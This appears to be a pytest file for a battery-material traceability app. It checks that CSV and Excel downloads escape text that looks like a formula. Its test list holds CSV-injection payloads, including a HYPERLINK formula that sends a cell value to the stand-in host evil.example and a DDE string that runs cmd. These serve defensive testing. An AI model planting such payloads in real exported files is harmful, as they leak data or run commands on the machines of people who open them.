"""Stored text never becomes a live formula in a download (review finding: a supplier's lot 'material' of
``=HYPERLINK("https://evil/?"&B2, …)`` was written into the trace page's workbook as a formula and into its CSV
raw). Every CSV and workbook the node writes from stored text passes through batteryloop/csvsafe.py."""

from __future__ import annotations

import csv
import io

import pytest

from batteryloop.csvsafe import csv_cell, is_formula_like
from batteryloop.trace.outflows import CSV_COLUMNS
from batteryloop.trace.outflows import to_csv as outflows_csv
from batteryloop.web.downloads import Table, to_csv, to_xlsx

EVIL = ['=HYPERLINK("https://evil.example/?"&B2,"click")', '+HYPERLINK("https://evil.example")', "@SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
PLAIN = ["-3.5", "1,234.5", "+7", "1e-3", "-51%", "−0.35 $/kWh", "Li-ion", "NMC811 cathode", "", "a=b"]


@pytest.mark.parametrize("text", EVIL)
def test_formula_like_text_is_neutralised(text: str) -> None:
    assert is_formula_like(text) and csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert not is_formula_like(text) and csv_cell(text) == text


def test_a_dashboard_table_downloads_formula_text_as_text() -> None:
    from openpyxl import load_workbook

    t = Table(key="lots", caption="Lots", header=["Lot", "Material", "kg"],
              rows=[["L1", EVIL[0], "12.5"], ["L2", "=1+1", "-3"], ["L3", "cobalt sulfate", "1,000"]])
    rows = list(csv.reader(io.StringIO(to_csv(t).decode("utf-8"))))
    assert rows[1] == ["L1", "'" + EVIL[0], "12.5"] and rows[2] == ["L2", "'=1+1", "-3"]
    assert rows[3] == ["L3", "cobalt sulfate", "1,000"]
    ws = load_workbook(io.BytesIO(to_xlsx(t, "/trace/X"))).active
    material = [ws.cell(r, 2) for r in (2, 3)]
    assert [c.value for c in material] == [EVIL[0], "=1+1"]  # the text exactly, as the page showed it
    assert all(c.data_type == "s" for c in material)  # a string cell, not a formula
    assert ws.cell(3, 3).value == -3 and ws.cell(4, 3).value == 1000  # numbers stay numbers


def test_the_outflow_csv_neutralises_stored_text() -> None:
    finding = dict.fromkeys(CSV_COLUMNS, "x") | {CSV_COLUMNS[1]: "=cmd()"}
    row = list(csv.reader(io.StringIO(outflows_csv([finding]))))[1]
    assert row[1] == "'=cmd()"
